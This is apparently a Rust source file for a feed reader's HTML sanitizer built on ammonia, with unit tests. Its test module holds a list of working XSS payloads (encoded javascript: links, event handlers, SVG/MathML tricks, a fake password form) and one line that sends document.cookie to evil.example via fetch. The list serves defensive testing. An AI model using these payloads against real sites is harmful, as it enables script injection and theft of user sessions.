//! The one HTML sanitizer policy for untrusted feed HTML. Pure: no IO, no SQL.
//!
//! Everything is an allow-list on top of ammonia (html5ever parsing), kept narrower than ammonia's
//! defaults: every recent ammonia advisory needed SVG, MathML, `style` or raw-text tags enabled,
//! so none of those are allowed here (see shared/research/security.md §1.1 and §3).

use std::cell::{Cell, RefCell};
use std::collections::{HashMap, HashSet};

use ammonia::{Builder, UrlRelative};
use html5ever::tendril::StrTendril;
use html5ever::tokenizer::{
    BufferQueue, TagKind, Token, TokenSink, TokenSinkResult, Tokenizer, TokenizerOpts,
};
use html5ever::{LocalName, local_name};
use url::Url;

use super::text::{html_to_text, raw_text_kind, text_to_html};
use crate::model::SafeHtml;

mod fast;

/// Deeper element nesting than this is not real content: html5ever's scope checks walk the stack
/// of open elements, so parsing time grows with depth squared (20,000 nested `<div>` take over a
/// second). Such input is kept as plain text instead. DOMPurify uses the same order of limit.
const MAX_NESTING_DEPTH: usize = 256;

/// How far down the stack an end tag may close an element in the depth estimate.
const MAX_END_TAG_REACH: usize = 16;

/// Harmless formatting elements; anything else is unwrapped (its text kept) or, for
/// `CONTENT_DROPPED_TAGS`, removed with its content.
const ALLOWED_TAGS: &[&str] = &[
    "p",
    "br",
    "a",
    "b",
    "strong",
    "i",
    "em",
    "u",
    "s",
    "del",
    "ins",
    "mark",
    "small",
    "sub",
    "sup",
    "code",
    "pre",
    "kbd",
    "samp",
    "var",
    "blockquote",
    "q",
    "cite",
    "abbr",
    "dfn",
    "ul",
    "ol",
    "li",
    "dl",
    "dt",
    "dd",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "hr",
    "figure",
    "figcaption",
    "img",
    "table",
    "caption",
    "thead",
    "tbody",
    "tfoot",
    "tr",
    "th",
    "td",
    "details",
    "summary",
    "span",
    "div",
    "time",
];

/// Elements whose content is code, styling, an embedded document or a form control label that
/// makes no sense without the control: dropping only the tag would leak their text or markup
/// into the page, so the whole subtree goes.
const CONTENT_DROPPED_TAGS: &[&str] = &[
    "script", "style", "svg", "math", "iframe", "frame", "frameset", "object", "embed", "applet",
    "noscript", "noembed", "noframes", "template", "xmp", "title", "textarea", "select", "head",
];

/// Attributes allowed on every allowed element. Not `style`, `class`, `id` or any `on*`.
const GENERIC_ATTRIBUTES: &[&str] = &["title", "lang", "dir"];

/// Per-element attributes. `cite` is left out on purpose: ammonia does not treat it as a URL
/// attribute, so its scheme would not be checked.
const TAG_ATTRIBUTES: &[(&str, &[&str])] = &[
    ("a", &["href", "hreflang"]),
    ("img", &["src", "alt", "width", "height"]),
    ("time", &["datetime"]),
    ("del", &["datetime"]),
    ("ins", &["datetime"]),
    ("ol", &["start", "reversed"]),
    ("td", &["colspan", "rowspan"]),
    ("th", &["colspan", "rowspan", "scope"]),
    ("details", &["open"]),
];

/// Only these schemes survive in `href`/`src`; ammonia checks them after WHATWG parsing, which
/// decodes character references and strips tabs, newlines and leading control characters.
const URL_SCHEMES: &[&str] = &["http", "https", "mailto"];

/// Outbound links must not give the target page a handle on ours (reverse tabnabbing) nor lend
/// it our ranking.
const LINK_REL: &str = "noopener noreferrer nofollow";

/// Neither clicking a link nor loading an image tells the remote site which page of ours it was on.
const REFERRER_POLICY: &str = "no-referrer";

/// Sanitizes untrusted HTML. Relative URLs resolve against `base` when it is an http(s) URL and
/// are dropped otherwise. The output is stable: sanitizing it again returns it unchanged.
pub fn sanitize(html: &str, base: Option<&Url>) -> SafeHtml {
    sanitize_with(html, base, true)
}

/// [`sanitize`], trying the fast path first only when `try_fast_path` is true. The output is
/// the same either way; without the fast path every input pays for the full parser
/// (`[normalize] sanitize_fast_path`).
pub fn sanitize_with(html: &str, base: Option<&Url>, try_fast_path: bool) -> SafeHtml {
    let base = base.filter(|base| matches!(base.scheme(), "http" | "https"));
    // Well-nested markup of the common elements needs no tree; the fast path writes what
    // ammonia would, and hands everything else over.
    if try_fast_path && let Some(cleaned) = fast::clean(html, base) {
        #[cfg(test)]
        FAST_PATH_ANSWERS.set(FAST_PATH_ANSWERS.get() + 1);
        return SafeHtml::assume_sanitized(cleaned);
    }
    SafeHtml::assume_sanitized(sanitize_with_ammonia(html, base))
}

#[cfg(test)]
thread_local! {
    /// How often this thread's sanitizing was answered by the fast path, so tests can see
    /// which path ran (the output is the same).
    pub(crate) static FAST_PATH_ANSWERS: Cell<usize> = const { Cell::new(0) };
}

/// The full parser and the ammonia policy, for any input.
fn sanitize_with_ammonia(html: &str, base: Option<&Url>) -> String {
    // Nesting needs a start tag per level: with fewer `<` than the limit, the input cannot
    // be too deep, and the tokenizer pass that measures depth is skipped.
    let could_be_deep = html.bytes().filter(|&b| b == b'<').count() > MAX_NESTING_DEPTH;
    if could_be_deep && nesting_exceeds(html, MAX_NESTING_DEPTH) {
        // The text has no nesting left, so this does not come back here a second time.
        return text_to_html(&html_to_text(html)).into_string();
    }
    POLICY.with_borrow_mut(|cached| {
        let base_key = base.map(Url::as_str).unwrap_or("");
        match cached {
            Some((key, builder)) if key == base_key => builder.clean(html).to_string(),
            _ => {
                let builder = policy(base);
                let cleaned = builder.clean(html).to_string();
                *cached = Some((base_key.to_owned(), builder));
                cleaned
            }
        }
    })
}

thread_local! {
    /// The policy for the last base URL this thread sanitized with: the items of one feed
    /// share their base, so the policy is built once per feed instead of once per item.
    static POLICY: RefCell<Option<(String, Builder<'static>)>> = const { RefCell::new(None) };
}

/// Builds the policy for one base URL (relative links resolve against it).
fn policy(base: Option<&Url>) -> Builder<'static> {
    let tag_attributes: HashMap<&'static str, HashSet<&'static str>> = TAG_ATTRIBUTES
        .iter()
        .map(|(tag, attributes)| (*tag, attributes.iter().copied().collect()))
        .collect();
    let referrer_policy = HashMap::from([("referrerpolicy", REFERRER_POLICY)]);
    let set_attributes = HashMap::from([("a", referrer_policy.clone()), ("img", referrer_policy)]);
    let url_relative = match base {
        Some(base) if matches!(base.scheme(), "http" | "https") => {
            UrlRelative::RewriteWithBase(base.clone())
        }
        _ => UrlRelative::Deny,
    };

    let mut builder = Builder::empty();
    builder
        .tags(ALLOWED_TAGS.iter().copied().collect())
        .clean_content_tags(CONTENT_DROPPED_TAGS.iter().copied().collect())
        .generic_attributes(GENERIC_ATTRIBUTES.iter().copied().collect())
        .tag_attributes(tag_attributes)
        .tag_attribute_values(HashMap::new())
        .set_tag_attribute_values(set_attributes)
        .allowed_classes(HashMap::new())
        .url_schemes(URL_SCHEMES.iter().copied().collect())
        .url_relative(url_relative)
        .link_rel(Some(LINK_REL))
        .strip_comments(true)
        .id_prefix(None);
    builder
}

/// Estimates whether parsing `html` would open more than `max_depth` nested elements.
/// It errs towards "deeper": elements a parser closes on its own (`p`, `li`, `td`, …) and void
/// elements are not counted, and an end tag closes only an element near the top of the stack
/// and never across a scope boundary such as `table`, as in the HTML tree builder.
fn nesting_exceeds(html: &str, max_depth: usize) -> bool {
    let sink = DepthSink {
        max_depth,
        ..DepthSink::default()
    };
    let tokenizer = Tokenizer::new(sink, TokenizerOpts::default());
    let input = BufferQueue::default();
    input.push_back(StrTendril::from(html));
    // The sink never asks for a script to run, so the only result is `Done`.
    let _ = tokenizer.feed(&input);
    tokenizer.end();
    tokenizer.sink.exceeded.get()
}

#[derive(Default)]
struct DepthSink {
    max_depth: usize,
    open: RefCell<Vec<LocalName>>,
    exceeded: Cell<bool>,
}

impl TokenSink for DepthSink {
    type Handle = ();

    fn process_token(&self, token: Token, _line_number: u64) -> TokenSinkResult<()> {
        let Token::TagToken(tag) = token else {
            return TokenSinkResult::Continue;
        };
        if self.exceeded.get() {
            return TokenSinkResult::Continue;
        }
        let mut open = self.open.borrow_mut();
        match tag.kind {
            TagKind::StartTag => {
                if let Some(kind) = raw_text_kind(&tag.name) {
                    // Raw text cannot contain elements; the tokenizer must know, as a parser would.
                    return TokenSinkResult::RawData(kind);
                }
                if closes_itself(&tag.name) {
                    return TokenSinkResult::Continue;
                }
                open.push(tag.name);
                if open.len() > self.max_depth {
                    self.exceeded.set(true);
                }
            }
            TagKind::EndTag => close(&mut open, &tag.name),
        }
        TokenSinkResult::Continue
    }
}

/// Closes `name` in the depth estimate the way the HTML tree builder would, or less.
fn close(open: &mut Vec<LocalName>, name: &LocalName) {
    let reach = open.len().saturating_sub(MAX_END_TAG_REACH);
    for open_idx in (reach..open.len()).rev() {
        if open[open_idx] == *name {
            if is_formatting(name) {
                // The adoption agency algorithm takes the formatting element off the stack but
                // leaves the elements opened inside it there.
                open.remove(open_idx);
            } else {
                open.truncate(open_idx);
            }
            return;
        }
        let stops_search = if is_special(name) || is_formatting(name) {
            is_scope_boundary(&open[open_idx])
        } else {
            // An end tag of an ordinary element is ignored once a special element is in the way.
            is_special(&open[open_idx])
        };
        if stops_search {
            return;
        }
    }
}

/// Void elements, and elements whose end tag is optional because the next sibling of the same
/// kind closes them: they cannot pile up on the stack of open elements.
fn closes_itself(name: &LocalName) -> bool {
    matches!(
        *name,
        local_name!("area")
            | local_name!("base")
            | local_name!("br")
            | local_name!("col")
            | local_name!("embed")
            | local_name!("hr")
            | local_name!("img")
            | local_name!("input")
            | local_name!("link")
            | local_name!("meta")
            | local_name!("param")
            | local_name!("source")
            | local_name!("track")
            | local_name!("wbr")
            | local_name!("keygen")
            | local_name!("frame")
            | local_name!("html")
            | local_name!("head")
            | local_name!("body")
            | local_name!("p")
            | local_name!("li")
            | local_name!("dt")
            | local_name!("dd")
            | local_name!("option")
            | local_name!("optgroup")
            | local_name!("rb")
            | local_name!("rp")
            | local_name!("rt")
            | local_name!("rtc")
            | local_name!("tr")
            | local_name!("td")
            | local_name!("th")
            | local_name!("thead")
            | local_name!("tbody")
            | local_name!("tfoot")
            | local_name!("colgroup")
    )
}

/// Formatting elements, whose misnested end tags run the adoption agency algorithm.
fn is_formatting(name: &LocalName) -> bool {
    matches!(
        *name,
        local_name!("a")
            | local_name!("b")
            | local_name!("big")
            | local_name!("code")
            | local_name!("em")
            | local_name!("font")
            | local_name!("i")
            | local_name!("nobr")
            | local_name!("s")
            | local_name!("small")
            | local_name!("strike")
            | local_name!("strong")
            | local_name!("tt")
            | local_name!("u")
    )
}

/// The HTML "special" category (of the elements counted on the stack), plus the foreign roots.
fn is_special(name: &LocalName) -> bool {
    is_scope_boundary(name)
        || matches!(
            *name,
            local_name!("address")
                | local_name!("article")
                | local_name!("aside")
                | local_name!("blockquote")
                | local_name!("center")
                | local_name!("details")
                | local_name!("dialog")
                | local_name!("dir")
                | local_name!("div")
                | local_name!("dl")
                | local_name!("fieldset")
                | local_name!("figcaption")
                | local_name!("figure")
                | local_name!("footer")
                | local_name!("form")
                | local_name!("frameset")
                | local_name!("h1")
                | local_name!("h2")
                | local_name!("h3")
                | local_name!("h4")
                | local_name!("h5")
                | local_name!("h6")
                | local_name!("header")
                | local_name!("hgroup")
                | local_name!("listing")
                | local_name!("main")
                | local_name!("menu")
                | local_name!("nav")
                | local_name!("ol")
                | local_name!("plaintext")
                | local_name!("pre")
                | local_name!("search")
                | local_name!("section")
                | local_name!("summary")
                | local_name!("ul")
                | local_name!("foreignObject")
                | local_name!("desc")
                | local_name!("mi")
                | local_name!("mo")
                | local_name!("mn")
                | local_name!("ms")
                | local_name!("mtext")
                | local_name!("annotation-xml")
        )
}

/// Elements an end tag for another element does not close across (the HTML "default scope").
fn is_scope_boundary(name: &LocalName) -> bool {
    matches!(
        *name,
        local_name!("applet")
            | local_name!("caption")
            | local_name!("table")
            | local_name!("marquee")
            | local_name!("object")
            | local_name!("template")
            | local_name!("svg")
            | local_name!("math")
            | local_name!("select")
            | local_name!("button")
    )
}

#[cfg(test)]
pub(crate) mod tests {
    use super::*;

    /// Every hostile snippet used in `tests/it/fixtures/`, as the HTML the feed parser hands over
    /// (XML entities already decoded once).
    pub(crate) const HOSTILE_PAYLOADS: &[&str] = &[
        // script_in_title_and_body.rss
        "<script>alert('title')</script>Hello",
        "<p>Before<script>alert(document.cookie)</script>after</p>",
        "<ScRiPt >alert(1)</ScRiPt >",
        "<p>ok</p><script src=\"https://evil.example/x.js\"></script>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<<script>script>alert(1)<</script>/script>",
        "<p>text</p><script>/*<![CDATA[*/alert(1)/*]]>*/</script>",
        // event_handlers.atom
        "<img src=x onerror=alert(1)>",
        "<img src=\"https://example.com/a.png\" onerror=\"alert(1)\" onload=\"alert(2)\">",
        "<details open ontoggle=alert(1)><summary>More</summary>hidden</details>",
        "<body onload=alert(1)><p>body</p></body>",
        "<p onmouseover=\"alert(1)\" onclick='alert(2)'>hover</p>",
        "<a href=\"https://example.com/\" onfocus=alert(1) autofocus>focus</a>",
        "<div/onclick=alert(1)>slash</div>",
        "<img src=x:y ONERROR=alert(1)>",
        // javascript_links.rss
        "<a href=\"javascript:alert(1)\">plain</a>",
        "<a href=\"JaVaScRiPt:alert(1)\">mixed case</a>",
        "<a href=\"java&#x09;script:alert(1)\">tab entity</a>",
        "<a href=\"java\tscript:alert(1)\">raw tab</a>",
        "<a href=\"&#106;avascript:alert(1)\">decimal entity</a>",
        "<a href=\"&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)\">hex</a>",
        "<a href=\"javascript&colon;alert(1)\">colon entity</a>",
        "<a href=\" &#14; javascript:alert(1)\">leading control</a>",
        "<a href=\"vbscript:msgbox(1)\">vb</a>",
        "<a href=\"VBScript:msgbox(1)\">vb case</a>",
        "<img src=\"javascript:alert(1)\">",
        // data_uris.rss
        "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">data link</a>",
        "<img src=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
        "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
        "<a href=\"DATA:text/html,<script>alert(1)</script>\">upper</a>",
        "<a href=\" data:text/html,x\">space</a>",
        // svg_payload.atom
        "<svg onload=alert(1)><circle r=\"10\"/></svg>",
        "<svg><animate attributeName=href values=javascript:alert(1) /><a><text>x</text></a></svg>",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text>clk</text></a></svg>",
        "<svg><set attributeName=\"onmouseover\" to=\"alert(1)\"/></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
        "<math href=\"javascript:alert(1)\">CLICK</math>",
        "<math><annotation-xml encoding=\"text/html\"><img src=x onerror=alert(1)></annotation-xml></math>",
        // document_hijack.rss
        "<base href=\"https://evil.example/\"><a href=\"page\">rel</a>",
        "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">",
        "<form action=\"https://evil.example/steal\"><input name=\"password\" type=\"password\"><button>Log in</button></form>",
        "<link rel=\"stylesheet\" href=\"https://evil.example/x.css\">",
        "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>",
        "<iframe src=\"https://evil.example/\"></iframe>",
        "<object data=\"https://evil.example/x.swf\"></object>",
        "<embed src=\"https://evil.example/x.swf\">",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
        "<template><script>alert(1)</script></template>",
        "<xmp><script>alert(1)</script></xmp>",
        "<textarea><script>alert(1)</script></textarea>",
        "<title><script>alert(1)</script></title>",
        // style_css.rss
        "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%;background:white\">overlay</div>",
        "<style>body { display: none }</style><p>styled</p>",
        "<p style=\"width: expression(alert(1))\">ie</p>",
        "<span style=\"background:url(javascript:alert(1))\">bg</span>",
        "<STYLE>@import 'https://evil.example/x.css';</STYLE>",
        "<p class=\"hidden\" id=\"login\">classy</p>",
        // jsonfeed_xss.json
        "<p>Hi</p><img src=\"x\" onerror=\"fetch('https://evil.example/?c='+document.cookie)\">",
        "<a href=\"javascript:alert(document.domain)\">json link</a><svg/onload=alert(1)>",
    ];

    const FORBIDDEN_FRAGMENTS: &[&str] = &[
        "<script",
        "javascript:",
        "vbscript:",
        "data:text",
        "<svg",
        "<math",
        "<iframe",
        "<object",
        "<embed",
        "<base",
        "<meta",
        "<form",
        "<style",
        "style=",
    ];

    #[track_caller]
    fn check(input: &str, expected: &str) {
        assert_eq!(sanitize(input, None).as_str(), expected);
    }

    #[track_caller]
    fn check_with_base(input: &str, base: &str, expected: &str) {
        let base = Url::parse(base).expect("test base URL parses");
        assert_eq!(sanitize(input, Some(&base)).as_str(), expected);
    }

    /// Finds an event-handler attribute: whitespace or `/`, then `on`, letters, optional
    /// whitespace and `=`. Case-insensitive.
    pub(crate) fn has_event_handler(html: &str) -> bool {
        let lower = html.to_ascii_lowercase();
        let bytes = lower.as_bytes();
        (1..bytes.len()).any(|start| {
            let before = bytes[start - 1];
            if !(before.is_ascii_whitespace() || before == b'/')
                || !lower[start..].starts_with("on")
            {
                return false;
            }
            let rest = &bytes[start + 2..];
            let n_letters = rest.iter().take_while(|b| b.is_ascii_alphabetic()).count();
            let after = rest[n_letters..].iter().find(|b| !b.is_ascii_whitespace());
            n_letters > 0 && after == Some(&b'=')
        })
    }

    #[track_caller]
    pub(crate) fn assert_harmless(html: &str) {
        let lower = html.to_ascii_lowercase();
        for fragment in FORBIDDEN_FRAGMENTS {
            assert!(
                !lower.contains(fragment),
                "{fragment:?} survived in {html:?}"
            );
        }
        assert!(
            !has_event_handler(html),
            "event handler survived in {html:?}"
        );
    }

    #[test]
    fn event_handler_checker_finds_handlers() {
        assert!(has_event_handler("<img src=x onerror=alert(1)>"));
        assert!(has_event_handler("<div/ONCLICK = x>"));
        assert!(has_event_handler("<p> only=one</p>"));
        assert!(!has_event_handler("<p>go on = there</p>"));
        assert!(!has_event_handler("<p>one two</p>"));
    }

    #[test]
    fn script_is_removed() {
        check("<p>a<script>alert(1)</script>b</p>", "<p>ab</p>");
    }

    #[test]
    fn mixed_case_script_is_removed() {
        check("x<ScRiPt >alert(1)</ScRiPt >y", "xy");
    }

    #[test]
    fn split_script_tags_stay_text() {
        check(
            "<scr<script>ipt>alert(1)</scr</script>ipt>",
            "ipt&gt;alert(1)ipt&gt;",
        );
    }

    #[test]
    fn event_handlers_are_removed() {
        check(
            "<img src=\"https://example.com/a.png\" onerror=\"alert(1)\">",
            "<img src=\"https://example.com/a.png\" referrerpolicy=\"no-referrer\">",
        );
    }

    #[test]
    fn details_ontoggle_is_removed() {
        check(
            "<details open ontoggle=alert(1)><summary>s</summary>t</details>",
            "<details open=\"\"><summary>s</summary>t</details>",
        );
    }

    #[test]
    fn body_onload_is_removed() {
        check("<body onload=alert(1)><p>b</p></body>", "<p>b</p>");
    }

    #[test]
    fn javascript_href_is_removed_however_encoded() {
        let expected =
            "<a referrerpolicy=\"no-referrer\" rel=\"noopener noreferrer nofollow\">x</a>";
        for href in [
            "javascript:alert(1)",
            "JaVaScRiPt:alert(1)",
            "java&#x09;script:alert(1)",
            "java\tscript:alert(1)",
            "java&#10;script:alert(1)",
            "&#106;avascript:alert(1)",
            "&#x6A;avascript:alert(1)",
            "javascript&colon;alert(1)",
            " &#14; javascript:alert(1)",
            "\u{1}javascript:alert(1)",
            "vbscript:msgbox(1)",
            "livescript:alert(1)",
        ] {
            check(&format!("<a href=\"{href}\">x</a>"), expected);
        }
    }

    #[test]
    fn data_uri_is_removed() {
        check(
            "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">d</a><img src=\"data:image/png;base64,AAAA\">",
            "<a referrerpolicy=\"no-referrer\" rel=\"noopener noreferrer nofollow\">d</a><img referrerpolicy=\"no-referrer\">",
        );
    }

    #[test]
    fn svg_and_math_are_removed() {
        check(
            "a<svg onload=alert(1)><text>t</text></svg>b<math><mi>x</mi></math>c",
            "abc",
        );
    }

    #[test]
    fn svg_animate_href_is_removed() {
        check(
            "<svg><animate attributeName=href values=javascript:alert(1) /><a><text>x</text></a></svg>ok",
            "ok",
        );
    }

    #[test]
    fn base_meta_form_iframe_are_removed() {
        check(
            "<base href=\"https://evil.example/\"><meta http-equiv=refresh content=\"0;url=https://evil.example/\"><form action=\"https://evil.example/\"><input name=p><button>Go</button></form><iframe srcdoc=\"x\">i</iframe><object data=\"https://evil.example/\">o</object><embed src=\"https://evil.example/\"><link rel=stylesheet href=\"https://evil.example/x.css\">",
            "Go",
        );
    }

    #[test]
    fn style_attributes_are_removed() {
        check(
            "<div style=\"position:fixed;top:0\" class=\"c\" id=\"i\">x</div>",
            "<div>x</div>",
        );
    }

    #[test]
    fn style_elements_are_removed_with_content() {
        check("<style>p{display:none}</style><p>x</p>", "<p>x</p>");
    }

    #[test]
    fn comments_are_removed() {
        check("a<!-- <script>alert(1)</script> -->b", "ab");
    }

    #[test]
    fn links_get_noopener_noreferrer() {
        check(
            "<a href=\"https://example.com/\" rel=\"opener\" target=\"_blank\">x</a>",
            "<a href=\"https://example.com/\" referrerpolicy=\"no-referrer\" rel=\"noopener noreferrer nofollow\">x</a>",
        );
    }

    #[test]
    fn mailto_links_are_kept() {
        check(
            "<a href=\"mailto:me@example.com\">m</a>",
            "<a href=\"mailto:me@example.com\" referrerpolicy=\"no-referrer\" rel=\"noopener noreferrer nofollow\">m</a>",
        );
    }

    #[test]
    fn images_keep_src_alt_and_size_but_not_srcset() {
        check(
            "<img src=\"https://example.com/a.png\" srcset=\"http:a<script>alert(1)</script> 2x\" alt=\"A\" width=\"10\" height=\"20\" title=\"T\">",
            "<img src=\"https://example.com/a.png\" alt=\"A\" width=\"10\" height=\"20\" title=\"T\" referrerpolicy=\"no-referrer\">",
        );
    }

    #[test]
    fn blockquote_cite_is_dropped() {
        check(
            "<blockquote cite=\"javascript:alert(1)\">q</blockquote>",
            "<blockquote>q</blockquote>",
        );
    }

    #[test]
    fn relative_links_resolve_against_base() {
        check_with_base(
            "<a href=\"../b/c\">x</a><img src=\"/i.png\">",
            "https://example.com/a/feed.xml",
            "<a href=\"https://example.com/b/c\" referrerpolicy=\"no-referrer\" rel=\"noopener noreferrer nofollow\">x</a><img src=\"https://example.com/i.png\" referrerpolicy=\"no-referrer\">",
        );
    }

    #[test]
    fn relative_links_are_dropped_without_base() {
        check(
            "<a href=\"/x\">x</a>",
            "<a referrerpolicy=\"no-referrer\" rel=\"noopener noreferrer nofollow\">x</a>",
        );
    }

    #[test]
    fn relative_links_are_dropped_with_non_http_base() {
        let base = Url::parse("file:///etc/passwd").expect("test base URL parses");
        assert_eq!(
            sanitize("<img src=\"x.png\">", Some(&base)).as_str(),
            "<img referrerpolicy=\"no-referrer\">"
        );
    }

    #[test]
    fn unclosed_tags_are_closed() {
        check("<p><b>bold", "<p><b>bold</b></p>");
    }

    #[test]
    fn deep_nesting_becomes_text() {
        let html = "<div><b>a</b>".repeat(MAX_NESTING_DEPTH + 1) + "<script>alert(1)</script>";
        let expected = format!("<p>{}</p>", vec!["a"; MAX_NESTING_DEPTH + 1].join("<br>"));
        check(&html, &expected);
    }

    #[test]
    fn nesting_at_the_limit_is_kept() {
        let html = "<div>".repeat(MAX_NESTING_DEPTH) + "x";
        let expected =
            "<div>".repeat(MAX_NESTING_DEPTH) + "x" + &"</div>".repeat(MAX_NESTING_DEPTH);
        check(&html, &expected);
    }

    #[test]
    fn many_unclosed_paragraphs_are_not_deep() {
        let html = "<p>a".repeat(MAX_NESTING_DEPTH * 4);
        assert_eq!(
            sanitize(&html, None).as_str(),
            "<p>a</p>".repeat(MAX_NESTING_DEPTH * 4)
        );
    }

    #[test]
    fn closed_elements_are_not_deep() {
        let html = "<div><span>x</span></div>".repeat(MAX_NESTING_DEPTH * 4);
        check(&html, &html);
    }

    #[test]
    fn end_tags_do_not_close_across_tables() {
        let html = "<div><table></div>".repeat(MAX_NESTING_DEPTH);
        assert!(nesting_exceeds(&html, MAX_NESTING_DEPTH));
    }

    #[test]
    fn deep_nesting_is_fast() {
        for pattern in [
            "<div>",
            "<span><div>",
            "<li><ul>",
            "<dl><dd>",
            "<div/>",
            "<span></x>",
            "<a><div></a>",
            "<b><div></b>",
            "<span><div></span>",
        ] {
            let html = pattern.repeat(MAX_CONTENT_BYTES_FOR_TEST / pattern.len());
            let started = std::time::Instant::now();
            let _ = sanitize(&html, None);
            assert!(
                started.elapsed().as_secs() < 5,
                "{pattern} took {:?}",
                started.elapsed()
            );
        }
    }

    const MAX_CONTENT_BYTES_FOR_TEST: usize = super::super::MAX_CONTENT_BYTES;

    #[test]
    fn sanitize_is_idempotent() {
        let base = Url::parse("https://example.com/feed/").expect("test base URL parses");
        let extra = [
            "<a href=\"rel/link\">r</a><img src=\"../i.png\" alt=\"&lt;b&gt; &amp; &quot;\">",
            "<p>a &amp; b &lt; c &nbsp; d</p><pre>  x\n  y</pre>",
            "<table><tr><td>1<td>2</table><ul><li>a<li>b</ul>",
        ];
        for input in HOSTILE_PAYLOADS.iter().chain(extra.iter()) {
            for base in [None, Some(&base)] {
                let once = sanitize(input, base);
                let twice = sanitize(once.as_str(), base);
                assert_eq!(once, twice, "not idempotent for {input:?}");
            }
        }
    }

    #[test]
    fn hostile_fixture_payloads_are_harmless() {
        let base = Url::parse("https://example.com/feed.xml").expect("test base URL parses");
        for payload in HOSTILE_PAYLOADS {
            assert_harmless(sanitize(payload, None).as_str());
            assert_harmless(sanitize(payload, Some(&base)).as_str());
        }
    }
}
